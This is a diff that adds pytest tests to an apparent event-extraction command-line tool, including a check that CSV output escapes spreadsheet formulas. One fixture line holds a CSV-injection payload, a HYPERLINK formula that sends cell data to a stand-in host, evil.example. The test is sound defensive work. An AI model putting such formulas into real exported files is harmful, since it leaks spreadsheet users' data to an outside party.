@@ -344,3 +344,19 @@ def test_closed_or_narrow_terminals_lose_no_output(tmp_path):
     done = _shell(f"map '{text}' --out '{tmp_path / 'm'}' 2>&-")
     assert done.returncode == 0 and (tmp_path / "m" / "index.html").exists()
     assert _shell(f"extract '{text}' -q >&-").returncode == 2
+
+
+def test_an_empty_input_is_a_usage_error(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "a.txt").write_text("Protesters rallied in Aktau on 5 January 2022.", encoding="utf-8")
+    assert run("extract", "", "-q").exit_code == 2
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path):
+    art = tmp_path / "a.txt"
+    art.write_text('published: 2022-01-11\n\n=HYPERLINK("http://evil.example/?x="&A1,"Click") Police detained '
+                   "20 people in Zhanaozen on January 10 2022.", encoding="utf-8")
+    out = tmp_path / "e.csv"
+    assert run("extract", str(art), "-o", str(out), "-q").exit_code == 0
+    evidence = pd.read_csv(out)["evidence"].tolist()
+    assert evidence and all(not e.startswith("=") for e in evidence) and evidence[0].startswith("'=")
